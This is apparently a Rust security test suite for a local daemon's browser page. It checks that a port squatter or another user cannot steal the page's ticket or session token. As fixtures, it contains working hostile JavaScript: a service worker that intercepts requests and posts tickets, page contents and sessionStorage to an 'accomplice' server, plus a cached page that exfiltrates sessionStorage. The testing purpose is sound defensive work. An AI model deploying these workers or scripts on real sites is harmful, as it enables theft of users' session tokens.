//! An earlier owner of the daemon's port, or another user on the other address family, gets nothing of its page.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener};
use std::time::Instant;

use local_daemon_harness::actors::{Actor, Bind, Seen, Squatter, response};
use local_daemon_harness::browser::page;
use local_daemon_harness::platform::as_user;
use local_daemon_harness::wait;
use serde_json::{Value, json};

use super::admitted::{ensure_kept, open_by_launcher, wait_for_page};
use super::scene::{SEEN, Scene, at, origin, own_page, path_of};
use crate::case::case;
use crate::cases::browser::visit::{Secret, page_ticket, page_ticket_at};
use crate::fixtures::words::{InWords, in_words};
use crate::outcome::{Outcome, Stop, ensure, fail, inconclusive, untestable};
use crate::stage::Stage;

/// Marks everything that comes from a squatter.
const MARK: &str = "of-the-squatter";

/// A worker that sends every ticket and page to an accomplice, and answers every other navigation instead of the daemon, with a
/// page that sends the tab's storage.
const THIEF: &str = "
    const tell = text => fetch('ACCOMPLICE', { method: 'POST', mode: 'no-cors', body: text });
    const shown = `<!doctype html><title>MARK</title><script>
        fetch('ACCOMPLICE', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ ...sessionStorage }) });
    </` + `script>`;
    addEventListener('install', () => skipWaiting());
    addEventListener('activate', event => event.waitUntil(clients.claim()));
    addEventListener('fetch', event => {
        const url = new URL(event.request.url);
        if (url.pathname === '/page') {
            event.respondWith((async () => {
                const body = await event.request.clone().text();
                await tell(body);
                const headers = { 'Content-Type': 'application/x-www-form-urlencoded' };
                const answer = await fetch('/page', { method: 'POST', headers, body });
                const text = await answer.text();
                await tell(text);
                return new Response(text, { status: answer.status, headers: answer.headers });
            })());
        } else if (event.request.mode === 'navigate') {
            event.respondWith(new Response(shown, { headers: { 'Content-Type': 'text/html' } }));
        }
    });";

/// Registers the worker, and waits until it controls the page.
const REGISTER: &str = "const how = new URLSearchParams(location.search).get('how') || 'imports';
    await navigator.serviceWorker.register('/worker', { updateViaCache: how });
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) {
        await new Promise(done => { navigator.serviceWorker.oncontrollerchange = done; });
    }";

/// A server at another port that records what the squatter's scripts send.
struct Accomplice(Actor);

impl Accomplice {
    fn start(stage: &Stage) -> Outcome<Self> {
        let open = [("Access-Control-Allow-Origin", "*")];
        let accomplice = Squatter::responding(move |_, _| response(200, &open, b""));
        Ok(Self(accomplice.noted(stage.transcript(), "accomplice").start(Bind::V4)?))
    }

    /// Fills the address of the accomplice into a squatter's text.
    fn filled(&self, text: &str) -> String {
        text.replace("ACCOMPLICE", &format!("{}/", origin(&self.0))).replace("MARK", MARK)
    }

    /// Checks that neither the ticket nor the token of a page was sent to it.
    fn ensure_received_nothing(&self, what: &str, ticket: &str, token: Option<&str>) -> Outcome {
        for request in self.0.ledger().requests() {
            let body = String::from_utf8_lossy(&request.body).into_owned();
            ensure!(!body.contains(ticket), "{what}: the squatter received the ticket");
            let has_token = token.is_some_and(|token| body.contains(token));
            ensure!(!has_token, "{what}: the squatter received the token");
        }
        Ok(())
    }
}

/// Starts a server whose pages register the worker.
fn planter(stage: &Stage, accomplice: &Accomplice, fresh: bool) -> Outcome<Actor> {
    let worker = accomplice.filled(THIEF);
    let cached = if fresh { "no-store" } else { "public, max-age=86400" };
    let framed =
        format!("<script>(async () => {{ {REGISTER}; parent.postMessage('planted', '*') }})()</script>");
    let planter = Squatter::responding(move |seen, _| match &*seen.target {
        "/worker" => {
            let headers = [("Content-Type", "text/javascript"), ("Cache-Control", cached)];
            response(200, &headers, worker.as_bytes())
        }
        "/framed" => page(&framed),
        _ => page(""),
    });
    Ok(planter.noted(stage.transcript(), "squatter").start(Bind::V4)?)
}

/// How a squatter plants its workers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Planting {
    /// By a visit.
    Plain,
    /// So that the engine takes the script from its cache when it checks for an update.
    Cached,
    /// On many ports, by one visit of a page that has them in frames.
    Many,
}

impl InWords for Planting {
    fn in_words(&self) -> String {
        match self {
            Self::Plain => "by a visit".to_owned(),
            Self::Cached => "by a cached script".to_owned(),
            Self::Many => "on many ports".to_owned(),
        }
    }
}

/// Plants workers, and returns the squatter whose port the daemon is to get; `None` if in this engine the worker of a frame does
/// not control pages.
fn plant(
    stage: &mut Stage,
    scene: &Scene,
    accomplice: &Accomplice,
    planting: Planting,
) -> Outcome<Option<Actor>> {
    const PORTS: u64 = 8;
    let fresh = planting != Planting::Cached;
    let chosen = if planting == Planting::Many {
        let mut planters = Vec::new();
        for _ in 0..PORTS {
            planters.push(planter(stage, accomplice, fresh)?);
        }
        let frames: Vec<String> = planters.iter().map(|by| format!("{}/framed", origin(by))).collect();
        scene.visit(stage, &scene.unlisted)?;
        let script = "const planted = new Set(), end = Date.now() + 15000;
                      addEventListener('message', event => planted.add(event.origin));
                      for (const src of arg.frames) {
                          document.body.append(Object.assign(document.createElement('iframe'), { src }));
                      }
                      while (planted.size < arg.frames.length && Date.now() < end) {
                          await new Promise(done => setTimeout(done, 20));
                      }
                      return planted.size";
        let seen = scene.run(stage, script, &json!({ "frames": frames }))?;
        if seen != PORTS {
            return inconclusive(format!("workers were planted on {seen} of {PORTS} ports"));
        }
        let number = usize::try_from(stage.rng().below(PORTS)).unwrap_or_default();
        planters.swap_remove(number)
    } else {
        let planter = planter(stage, accomplice, fresh)?;
        let how = if fresh { "imports" } else { "all" };
        scene.visit_at(stage, &format!("{}/?how={how}", origin(&planter)))?;
        scene.run(stage, REGISTER, &json!({}))?;
        planter
    };
    scene.visit_at(stage, &format!("{}/", origin(&chosen)))?;
    let answers = scene.run(stage, "return document.title", &json!({}))? == MARK;
    if !answers && planting == Planting::Many {
        stage.observed("the worker that a frame planted does not answer for a page");
        return Ok(None);
    }
    if !answers {
        return inconclusive("the worker does not answer instead of its server");
    }
    stage.precondition(format!(
        "{planting}: a worker answers at the port that the daemon gets",
        planting = in_words(&planting)
    ));
    Ok(Some(chosen))
}

/// Checks that the tab shows nothing of the squatter's.
fn ensure_not_shown(stage: &Stage, scene: &Scene, what: &str) -> Outcome {
    let script = "return document.title + ' ' + document.documentElement.outerHTML";
    let seen = scene.run(stage, script, &json!({}))?;
    let shown = seen.as_str().is_some_and(|seen| seen.contains(MARK));
    ensure!(!shown, "{what}: what the squatter left is shown");
    Ok(())
}

/// A squatter has planted workers at the port that the daemon gets, plainly, so that none is updated, and on many
/// ports: they get neither ticket nor token, and the page goes on after a reload and next to a second tab.
#[case("BROW-40", "BROW-35")]
fn foreign_worker_gets_nothing(stage: &mut Stage) -> Outcome {
    let mut scene = Scene::set(stage)?;
    let arg = scene.arg(stage, 0)?;
    let accomplice = Accomplice::start(stage)?;
    stage.expect("no ticket and no token for the workers; the page and its reload are the daemon's");
    for planting in [Planting::Plain, Planting::Cached, Planting::Many] {
        let Some(squatter) = plant(stage, &scene, &accomplice, planting)? else {
            continue;
        };
        scene.open_tab()?;
        scene.front = scene.take_over(squatter)?;
        let ticket = page_ticket(stage, &scene.live)?;
        let address = own_page(&scene, &ticket);
        open_by_launcher(stage, &scene, &ticket)?;
        let token = opened(stage, &scene, &arg, &accomplice, &ticket, 1)?;
        ensure_not_shown(stage, &scene, "the page")?;
        scene.visit_at(stage, &address)?;
        opened(stage, &scene, &arg, &accomplice, &ticket, 2)?;
        ensure_kept(stage, &scene, &arg, &token)?;
        ensure_not_shown(stage, &scene, "its reload")?;
        scene.open_tab()?;
        let second = page_ticket(stage, &scene.live)?;
        scene.visit_at(stage, &format!("{address}#ticket={second}"))?;
        let other = opened(stage, &scene, &arg, &accomplice, &second, 3)?;
        ensure!(other != token, "the second tab has the token of the first");
        ensure_kept(stage, &scene, &arg, &other)?;
        ensure_not_shown(stage, &scene, "the second tab")?;
        accomplice.ensure_received_nothing("at the end", &ticket, Some(&token))?;
        stage.observed(format!(
            "{planting}: the page, its reload and a second tab, and nothing for the worker",
            planting = in_words(&planting)
        ));
    }
    Ok(())
}

/// Waits until the page has been loaded `loads` times, checks that the accomplice received nothing, and returns the last token.
fn opened(
    stage: &mut Stage,
    scene: &Scene,
    arg: &Value,
    accomplice: &Accomplice,
    ticket: &Secret,
    loads: usize,
) -> Outcome<String> {
    let token = wait_for_page(stage, scene, arg, loads);
    // A worker that intercepts the page may show only in what it sends.
    accomplice.ensure_received_nothing("the page's load", ticket, token.as_ref().ok().map(String::as_str))?;
    token
}

/// Starts a server whose page and status any cache may keep for a year.
fn stale(stage: &Stage, accomplice: &Accomplice, read: &str) -> Outcome<Actor> {
    let html = accomplice.filled(
        "<!doctype html><title>MARK</title><script>
            fetch('ACCOMPLICE', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ ...sessionStorage }) });
         </script>",
    );
    let status = json!({
        "id": MARK, "version": MARK, "log_path": MARK, "url": MARK, "pid": 1, "protocol": "x/1", "state": "ready",
        "spec": "local-daemon/1", "mode": "manual", "capabilities": [MARK], "origins": [MARK], "streams": 0,
        "started_at": "2026-01-01T00:00:00Z", "uptime_seconds": 1, "last_activity": "2026-01-01T00:00:00Z",
    });
    let read = read.to_owned();
    let stale = Squatter::responding(move |seen: &Seen, _| {
        let (kind, body) = if seen.target == read {
            ("application/json", status.to_string())
        } else {
            ("text/html", html.clone())
        };
        let headers = [
            ("Content-Type", kind),
            ("Cache-Control", "public, max-age=31536000, immutable"),
        ];
        response(200, &headers, body.as_bytes())
    });
    Ok(stale.noted(stage.transcript(), "squatter").start(Bind::V4)?)
}

/// A squatter's page and status are in the cache, fresh for a year, when the daemon gets the port. The page is opened
/// at its own host and at 127.0.0.1, and again by every way: nothing of the squatter's is shown, and it receives nothing.
#[case("BROW-40", "BROW-22", "BROW-45")]
fn foreign_cache_is_not_shown(stage: &mut Stage) -> Outcome {
    let mut scene = Scene::set(stage)?;
    let arg = scene.arg(stage, 0)?;
    let accomplice = Accomplice::start(stage)?;
    let read = path_of(&arg["read"]);
    stage.expect("the daemon's page after going back, a typed address, a link and a reload, with its token");
    for host in [None, Some("127.0.0.1")] {
        let squatter = stale(stage, &accomplice, &read)?;
        let address = format!("{}/", origin(&squatter));
        scene.visit_at(stage, &address)?;
        let script = "await (await fetch(arg)).text(); return document.title";
        if scene.run(stage, script, &json!(read))? != MARK {
            return inconclusive("the squatter's page does not open");
        }
        stage.precondition("the squatter's page and its status were loaded, to be kept for a year");
        scene.open_tab()?;
        scene.front = scene.take_over(squatter)?;
        let ticket = match host {
            Some(host) => page_ticket_at(stage, &scene.live, host)?,
            None => page_ticket(stage, &scene.live)?,
        };
        let address = own_page(&scene, &ticket);
        open_by_launcher(stage, &scene, &ticket)?;
        let token = opened(stage, &scene, &arg, &accomplice, &ticket, 1)?;
        for way in ["the page", "back", "a typed address", "a link", "a reload"] {
            match way {
                "back" => {
                    scene.visit_at(stage, &origin(&scene.listed))?;
                    scene.back()?;
                }
                "a typed address" => {
                    scene.visit_at(stage, &origin(&scene.listed))?;
                    scene.visit_at(stage, &address)?;
                }
                "a link" => follow_link(stage, &scene, &address)?,
                "a reload" => scene.reload()?,
                _ => {}
            }
            let what = format!("{way} at {}", ticket.name());
            accomplice.ensure_received_nothing(&what, &ticket, Some(&token))?;
            ensure_not_shown(stage, &scene, &what)?;
            ensure_kept(stage, &scene, &arg, &token)?;
        }
        stage.observed(format!("at {}: nothing of the squatter's in any way", ticket.name()));
    }
    Ok(())
}

/// Follows a link in the tab.
fn follow_link(stage: &Stage, scene: &Scene, to: &str) -> Outcome {
    scene.visit_at(stage, &origin(&scene.listed))?;
    let link =
        "document.body.append(Object.assign(document.createElement('a'), { href: arg, textContent: 'on' }))";
    scene.run(stage, link, &json!(to))?;
    scene.click("a")?;
    Ok(())
}

/// The page is opened by the address with its ticket, and requests its status and its stream: each request bypasses caches.
#[case("BROW-45")]
fn own_page_asks_no_cache(stage: &mut Stage) -> Outcome {
    let scene = Scene::set(stage)?;
    let arg = scene.arg(stage, 0)?;
    stage.expect("`Cache-Control: no-cache` with each request of the page's script");
    let ticket = page_ticket(stage, &scene.live)?;
    scene.visit_at(stage, &format!("{}#ticket={ticket}", own_page(&scene, &ticket)))?;
    wait_for_page(stage, &scene, &arg, 1)?;
    let asked = |request: &Seen| {
        // The engine makes requests of its own, and no cache answers a POST.
        let is_of_script =
            request.header("sec-fetch-dest") == Some("empty") || request.header("authorization").is_some();
        is_of_script && request.method != "POST"
    };
    let mut requests = scene.front.ledger().requests();
    requests.retain(asked);
    let targets: Vec<&str> = requests
        .iter()
        .map(|request| request.target.split('?').next().unwrap_or_default())
        .collect();
    if targets.is_empty() {
        return inconclusive("the page's script asked for nothing");
    }
    stage.precondition(format!("the page's script asked for {}", targets.join(", ")));
    for request in &requests {
        let control = request.header("cache-control").unwrap_or("nothing");
        let path = request.target.split('?').next().unwrap_or_default();
        let bypasses = control.split(',').any(|word| matches!(word.trim(), "no-cache" | "no-store"));
        ensure!(bypasses, "{} {path} says {control} of caches", request.method);
    }
    Ok(())
}

/// Another user tries to listen at the daemon's port on the other family, and the page is opened at its own host,
/// without a front: the daemon alone receives its requests, also for a reload and in a second tab.
#[case("BROW-36")]
fn other_family_is_the_daemons_too(stage: &mut Stage) -> Outcome {
    let scene = Scene::set(stage)?;
    stage.expect("no other listener at the port, and the page at the daemon itself");
    let (v4, v6) = (Ipv4Addr::LOCALHOST, Ipv6Addr::LOCALHOST);
    if TcpListener::bind((v6, 0)).is_err() {
        return untestable("this host has no ::1");
    }
    // Which family the engine takes for such a name, if both answer.
    let first = Squatter::responding(|_, _| page("")).start(Bind::V4)?;
    let other_address = SocketAddr::from((v6, first.address().port()));
    let second = Squatter::responding(|_, _| page("")).start(Bind::At(other_address))?;
    scene.visit_at(stage, &at("0123456789abcdef0123456789abcdef.localhost", &first))?;
    let asked = |actor: &Actor| !actor.ledger().requests().is_empty();
    stage.observed(match (asked(&first), asked(&second)) {
        (_, true) => "for a name below localhost the engine goes to ::1",
        (true, false) => "for a name below localhost the engine goes to 127.0.0.1",
        (false, false) => return inconclusive("the engine resolves no name below localhost"),
    });
    let port = scene.live.port();
    let other = if scene.live.target.address.is_ipv4() { IpAddr::from(v6) } else { v4.into() };
    let other_address = SocketAddr::new(other, port);
    let listen = || TcpListener::bind(other_address);
    let (who, listener) = match stage.another_user() {
        Ok(nobody) => ("another user", as_user(nobody, listen)?),
        // The kernel refuses the port to any user.
        Err(Stop::Untestable(_)) => ("the same user", listen()),
        Err(stop) => return Err(stop),
    };
    if listener.is_ok() {
        drop(listener);
        let stranger = Squatter::responding(|_, _| page("")).start(Bind::At(other_address))?;
        let ticket = page_ticket(stage, &scene.live)?;
        scene.visit_at(stage, &format!("http://{}/#ticket={ticket}", ticket.host))?;
        let requests = stranger.ledger().requests().len();
        return fail(format!(
            "{who} listens at {other_address}, and was sent {requests} requests for the page"
        ));
    }
    stage.precondition(format!("{who} cannot listen at {other_address}"));
    let ticket = page_ticket(stage, &scene.live)?;
    scene.visit_at(stage, &format!("http://{}/#ticket={ticket}", ticket.host))?;
    let token = kept_token(stage, &scene)?;
    scene.reload()?;
    let again = kept_token(stage, &scene)?;
    ensure!(again == token, "after a reload the page has another token");
    scene.open_tab()?;
    let second = page_ticket(stage, &scene.live)?;
    scene.visit_at(stage, &format!("http://{}/#ticket={second}", second.host))?;
    let other = kept_token(stage, &scene)?;
    ensure!(other != token, "the second tab has the token of the first");
    Ok(())
}

/// Waits for the token in the tab's storage, and returns it. The page navigates with its ticket, which ends a running script.
fn kept_token(stage: &Stage, scene: &Scene) -> Outcome<String> {
    let script = "return Object.values(sessionStorage).find(text => text.length >= 43) || ''";
    let mut last = Ok(Value::Null);
    let token = wait::until(Instant::now() + SEEN, || {
        last = scene.run(stage, script, &json!({}));
        let token = last.as_ref().ok()?.as_str()?;
        (!token.is_empty()).then(|| token.to_owned())
    });
    let Some(token) = token else {
        last?;
        return inconclusive("the page keeps no token");
    };
    stage.transcript().hide(token.as_bytes());
    Ok(token)
}
